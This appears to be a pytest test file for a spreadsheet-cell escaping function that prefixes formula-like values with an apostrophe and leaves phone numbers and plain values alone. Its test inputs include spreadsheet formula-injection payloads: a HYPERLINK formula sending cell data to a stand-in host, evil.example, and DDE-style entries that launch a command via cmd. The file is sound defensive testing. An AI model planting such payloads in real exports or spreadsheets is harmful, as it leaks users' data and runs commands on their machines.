import pytest

from cdp.ui.format import spreadsheet_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A2,"open")',
        "@SUM(1+1)@x.com",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["+44 20 7946 0018", "+1 (555) 010-0000", "-12.5", "ann@example.com", "", "cus_1"]
)
def test_plain_values_and_phone_numbers_are_left_alone(value):
    assert spreadsheet_cell(value) == value


def test_numbers_and_nulls_pass_through():
    assert spreadsheet_cell(None) is None and spreadsheet_cell(3) == 3
